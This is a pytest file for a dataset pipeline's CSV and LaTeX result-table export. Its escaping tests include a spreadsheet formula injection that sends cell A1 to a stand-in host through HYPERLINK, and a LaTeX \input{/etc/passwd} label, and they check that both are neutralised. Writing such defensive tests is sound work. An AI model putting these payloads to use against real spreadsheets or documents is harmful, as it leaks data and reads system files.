"""Result tables: rows of the reports, safe in a spreadsheet and in LaTeX."""

import csv
import io
from typing import Any

import polars as pl
import pytest

from dataset_pipeline.stages.result_tables import files_of, result_tables, to_csv, to_latex


def reports(**changes: Any) -> dict[str, Any]:
    return {
        "statistics": {
            "counts": {"released_items": 8, "splits": [{"value": "train", "items": 6}, {"value": "test", "items": 2}]},
            "classes": [{"value": "hat", "items": 6, "splits": {}}, {"value": None, "items": 2, "splits": {}}],
            "languages": [{"value": "en", "items": 5, "splits": {}}, {"value": None, "items": 3, "splits": {}}],
            "removed": [{"stage": "clean", "reason": "image_blank", "items": 4}],
        },
        **changes,
    }  # fmt: skip


def test_tables_hold_the_rows_of_the_reports() -> None:
    leaderboard = [{"model": "majority", "top1": 0.25, "n_test": 8}]
    made = result_tables(reports(baselines={"leaderboard": leaderboard}))
    assert {name: table.rows() for name, table in made.items()} == {
        "splits": [("train", 6), ("test", 2)],
        "class_balance": [("hat", 6, 0.75)],  # a missing label is no class
        "languages": [("en", 5), (None, 3)],
        "removed": [("clean", "image_blank", 4)],
        "baselines": [("majority", 0.25, 8)],
    }


def test_prices_and_scores_on_other_splits_are_tables() -> None:
    row = {
        "rule": "configured", "threshold": 1.0, "pairs": 0, "groups": 3, "largest_group": 2, "items_merged": 4,
        "effective_classes": None,
    }  # fmt: skip
    price = {
        "items": 4,
        "text": {"rows": [row]},
        "image": {"rows": [{**row, "threshold": 0.9, "effective_classes": 1.5}]},
    }
    others = [{"model": "m", "split": "this", "top1": 0.5}, {"model": "m", "split": "random", "top1": 0.75}]
    boards = {"leaderboard": [], "other_splits": others}
    made = result_tables(reports(cleanliness={"price": price}, baselines=boards))
    assert made["price_of_cleanliness"].rows() == [
        ("image", "configured", 0.9, 0, 3, 2, 4, 1.5),
        ("text", "configured", 1.0, 0, 3, 2, 4, None),
    ]
    assert made["other_splits"].rows() == [("m", "this", 0.5), ("m", "random", 0.75)]
    nothing = result_tables(reports(cleanliness={"price": {"items": 0}}))
    assert nothing["price_of_cleanliness"].is_empty()


@pytest.mark.parametrize("more", [{}, {"baselines": {"leaderboard": [], "models": {}, "similarity": {}}}])
def test_without_baselines_there_is_no_table_of_them(more: dict[str, Any]) -> None:
    assert "baselines" not in result_tables(reports(**more))


def test_an_empty_dataset_gives_tables_without_rows() -> None:
    nothing = {"counts": {"released_items": 0, "splits": []}, "classes": [], "languages": [], "removed": []}
    made = files_of(result_tables({"statistics": nothing}))
    assert made["splits.csv"] == "split,items\n"
    assert made["removed.csv"] == "stage,reason,items\n"
    assert sorted(made) == [
        "class_balance.csv", "class_balance.tex", "languages.csv", "languages.tex", "removed.csv", "removed.tex",
        "splits.csv", "splits.tex",
    ]  # fmt: skip


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n", "＝"])
def test_a_label_that_a_spreadsheet_would_run_is_a_value(start: str) -> None:
    # https://owasp.org/www-community/attacks/CSV_Injection
    formula = f'{start}HYPERLINK("https://example.org?x="&A1)'
    table = pl.DataFrame({"label": [formula, "hat"], "items": [-5, 2]})
    rows = list(csv.reader(io.StringIO(to_csv(table), newline="")))
    assert rows == [["label", "items"], [f"'{formula}", "-5"], ["hat", "2"]]


@pytest.mark.parametrize("label", [" =1+1", "\ufeff=1+1", "\u00a0@SUM(1)", " \t-1"])
def test_what_stands_before_a_formula_does_not_hide_it(label: str) -> None:
    # Spreadsheets trim white space and byte order marks before they look.
    rows = list(csv.reader(io.StringIO(to_csv(pl.DataFrame({"label": [label]})), newline="")))
    assert rows[1] == [f"'{label}"]


def test_csv_quotes_what_needs_it() -> None:
    labels = ['a "b"', "a,b", "two\nlines", "汉字", None, ""]
    text = to_csv(pl.DataFrame({"label": labels, "share": [0.5] * 6}))
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert [row[0] for row in rows[1:]] == [label or "" for label in labels]
    assert {row[1] for row in rows[1:]} == {"0.5"}


def test_latex_of_a_table() -> None:
    table = pl.DataFrame({"class_name": ["hat", None], "share": [0.25, 1 / 3], "items": [1234, 1]})
    assert to_latex(table) == (
        "\\begin{tabular}{lrr}\n"
        "\\toprule\n"
        "class name & share & items \\\\\n"
        "\\midrule\n"
        "hat & 0.250 & 1,234 \\\\\n"
        " & 0.333 & 1 \\\\\n"
        "\\bottomrule\n"
        "\\end{tabular}\n"
    )


@pytest.mark.parametrize(
    ("label", "expected"),
    [
        ("50 % & more", r"50 \% \& more"),
        ("a_b^c~d", r"a\_b\textasciicircum{}c\textasciitilde{}d"),
        (r"\input{/etc/passwd}", r"\textbackslash{}input\{/etc/passwd\}"),  # no command of the label's
        ("$x$ #1", r"\$x\$ \#1"),
        ("two\nlines \\\\ more", r"two lines \textbackslash{}\textbackslash{} more"),
        ("a\0b\x1b", "ab"),  # TeX stops at control characters
    ],
)
def test_latex_shows_a_label_as_it_is(label: str, expected: str) -> None:
    assert to_latex(pl.DataFrame({"label": [label]})).splitlines()[4] == rf"{expected} \\"


def test_a_label_in_brackets_is_no_argument() -> None:
    # After "\\" a row that starts with "[" would be read as the space to leave.
    lines = to_latex(pl.DataFrame({"label": ["hat", "[draft]", "*"]})).splitlines()
    assert lines[5:7] == [r"{[}draft] \\", r"{*} \\"]
